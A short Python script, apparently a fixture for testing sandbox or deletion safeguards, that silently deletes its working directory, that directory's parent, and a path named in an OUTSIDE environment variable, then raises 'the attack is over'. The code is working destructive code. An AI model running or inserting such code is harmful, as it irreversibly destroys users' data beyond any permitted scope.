"""Removes the folder that it runs in and all beside it."""

import os
import shutil

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
shutil.rmtree(os.path.dirname(here), ignore_errors=True)
shutil.rmtree(os.environ["OUTSIDE"], ignore_errors=True)
raise RuntimeError("the attack is over")
